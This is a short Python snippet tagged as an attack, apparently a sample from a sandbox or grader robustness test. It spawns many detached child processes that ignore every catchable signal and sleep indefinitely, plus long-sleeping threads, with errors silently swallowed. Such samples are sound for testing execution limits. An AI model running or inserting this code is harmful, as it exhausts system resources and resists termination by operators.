#{crew_wrong}
# <attack>
import os
import signal
import threading
import time

try:
    for _number in range(200):
        if _number % 8 == 7:
            threading.Thread(target=time.sleep, args=(1e6,)).start()
        elif os.fork() == 0:
            os.setsid()
            for _signal in range(1, 65):
                try:
                    signal.signal(_signal, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            time.sleep(1e6)
except (OSError, RuntimeError):
    pass
# </attack>
